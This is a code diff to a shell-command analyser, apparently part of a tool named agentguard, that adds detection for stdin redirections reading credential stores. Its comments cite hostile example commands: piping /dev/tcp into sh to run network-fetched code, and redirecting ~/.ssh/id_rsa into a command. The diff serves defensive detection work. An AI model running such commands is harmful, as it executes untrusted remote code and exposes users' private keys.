@@ -73,9 +73,18 @@ def stdin_from(walker: Walker, redirects: list[Node]) -> Stdin | None:
             word = walker.expander().expand(dest) if dest is not None else Word("", False, "?")
             if word.known and word.text.startswith(NET_DEVICES):  # `sh < /dev/tcp/HOST/PORT`: code off the wire
                 return Stdin("network", None, word.text)
+            _secret_input(walker, word, _text(redirect))
             text = walker.read_text(word.text, walker.cwd) if word.known else None
             return Stdin("file", text, word.text)
     return None
+
+
+def _secret_input(walker: Walker, word: Word, source: str) -> None:
+    """`python3 -m json.tool < ~/.ssh/id_rsa`: whatever reads it, the command reads a credential store."""
+    from agentguard.analysis.secrets import read_effects
+    from agentguard.analysis.types import Invocation
+
+    walker.effects.extend(read_effects([word], Invocation((), walker.cwd, source), "reads a credential store"))
 
 
 def _heredoc(walker: Walker, redirect: Node) -> Stdin:
